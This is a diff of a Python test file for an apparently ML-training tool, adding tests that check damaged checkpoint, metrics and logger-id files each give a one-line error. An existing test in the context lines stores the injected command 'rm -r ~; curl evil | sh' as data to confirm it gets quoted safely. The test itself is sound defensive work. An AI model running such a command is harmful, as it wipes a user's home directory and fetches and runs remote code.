@@ -14,6 +14,7 @@ import yaml
 from genre import run_folder
 from genre.data.lock import locked
 from genre.errors import GenreError
+from genre.loggers import IDS
 from genre.pages.page import Page
 from genre.search.outcome import open_folder, read
 from tests import test_attacks
@@ -153,3 +154,22 @@ def test_the_command_of_a_study_is_one_of_this_program(tmp_path: Path) -> None:
     found = made(tmp_path, "ccc")
     found.study.set_user_attr("command", "rm -r ~; curl evil | sh")
     assert read(found.study, Path("a b")).command == "python train.py '~;' curl evil '|' sh 'best=a b'"
+
+
+def test_a_checkpoint_without_its_genres_is_one_line(run: Path) -> None:
+    stored = torch.load(run / run_folder.BEST, weights_only=True)
+    del stored["hyper_parameters"]["card"]["genres"]
+    torch.save(stored, run / run_folder.BEST)
+    assert "is not a checkpoint that can be used ('genres')" in refusal(run)
+
+
+@pytest.mark.parametrize("text", ["a,b\n1,2\n", "", "seconds\nlong\n"])
+def test_metrics_of_something_else_are_one_line(text: str, run: Path) -> None:
+    (run / run_folder.METRICS).write_text(text)
+    assert f"{run / run_folder.METRICS} is damaged: train again" in refusal(run)
+
+
+@pytest.mark.parametrize("text", ["[1", "[1]", "\x00"])
+def test_damaged_ids_of_loggers_are_one_line(text: str, run: Path) -> None:
+    (run / IDS).write_text(text)
+    assert f"{run / IDS} is damaged: delete it" in refusal(run, resume)
